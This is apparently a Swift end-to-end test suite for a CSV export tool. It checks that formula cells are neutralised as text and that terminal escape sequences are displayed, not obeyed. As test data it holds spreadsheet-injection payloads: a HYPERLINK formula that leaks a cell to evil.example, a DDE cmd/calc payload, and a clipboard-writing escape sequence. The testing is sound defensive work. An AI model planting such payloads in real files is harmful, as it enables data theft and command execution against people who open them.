import Foundation
import HandoffCore
import HandoffStore
import HandoffTestSupport
import Testing

/// What leaves the board in an export cannot attack whoever opens it: a formula goes to the
/// spreadsheet as text, and an escape sequence reaches a terminal only as visible symbols.
@Suite struct ExportSafetyEndToEndTests {
    func importFile(_ text: String, into board: TemporaryBoard, as name: String = "in.csv") throws -> String {
        let path = board.folder + "/" + name
        try text.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    @Test func formulaCellsGoOutAsTextUnlessRawAndComeBackExactly() throws {
        let board = TemporaryBoard()
        let file = try importFile(
            """
            id,name,company,phone,attr.note
            1,"=HYPERLINK(""http://evil.example/?""&A1,""Invoice"")",@SUM(A1:A9),+34 600 123 456,"-2+3+cmd|' /C calc'!A0"
            2,Plain Person,Acme,-5,'=already quoted once

            """, into: board)
        #expect(try HandoffBinary.run(["import", file, "--db", board.path]).status == 0)
        let safe = try HandoffBinary.run(["export", "--db", board.path])
        #expect(safe.status == 0)
        let lines = safe.output.split(separator: "\n").map(String.init)
        #expect(
            lines[1].hasPrefix("1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Invoice\"\")\",'@SUM(A1:A9),,'+34 600 123 456,"),
            "\(lines[1])")
        #expect(lines[1].hasSuffix(",'-2+3+cmd|' /C calc'!A0"), "\(lines[1])")
        // A -5 is a number, not a formula; the file's own guard was taken off on import and is put back.
        #expect(lines[2].hasPrefix("2,Plain Person,Acme,,-5,") && lines[2].hasSuffix(",'=already quoted once"), "\(lines[2])")
        let raw = try HandoffBinary.run(["export", "--raw", "--db", board.path])
        #expect(
            raw.output.split(separator: "\n")[1].hasPrefix(
                "1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Invoice\"\")\",@SUM(A1:A9),,+34 600 123 456,"))

        // Export, import into a new board, export: the same bytes.
        let first = board.folder + "/first.csv", second = board.folder + "/second.csv"
        #expect(try HandoffBinary.run(["export", "--out", first, "--db", board.path]).status == 0)
        let copy = TemporaryBoard()
        #expect(try HandoffBinary.run(["import", first, "--db", copy.path]).status == 0)
        #expect(try HandoffBinary.run(["export", "--out", second, "--db", copy.path]).status == 0)
        #expect(FileManager.default.contents(atPath: first) == FileManager.default.contents(atPath: second))
    }

    /// `script` gives the export a terminal of its own: there the clipboard sequence is shown, not
    /// obeyed; to a pipe the bytes are exact, for files that are read back.
    @Test func onATerminalControlCharactersAreShownVisibly() throws {
        let board = TemporaryBoard()
        let file = try importFile("name,company\nClip,\"\(HostileText.clipboard)\"\n", into: board)
        #expect(try HandoffBinary.run(["import", file, "--db", board.path]).status == 0)
        let process = try SpawnedProcess(
            ["script", "-qec", "'\(HandoffBinary.path)' export --db '\(board.path)'", "/dev/null"],
            environment: ["PATH": "/usr/bin:/bin", "TERM": "xterm", "LANG": "C.UTF-8"])
        #expect(process.waitBlocking() == 0)
        #expect(process.outputText.contains("Clip␛]52;c;SGVsbG8=␇board SA"), "\(process.outputText)")
        #expect(!process.output.contains(0x1B) && !process.output.contains(0x07))
        let piped = try HandoffBinary.run(["export", "--db", board.path])
        #expect(piped.output.contains(HostileText.clipboard))
    }
}
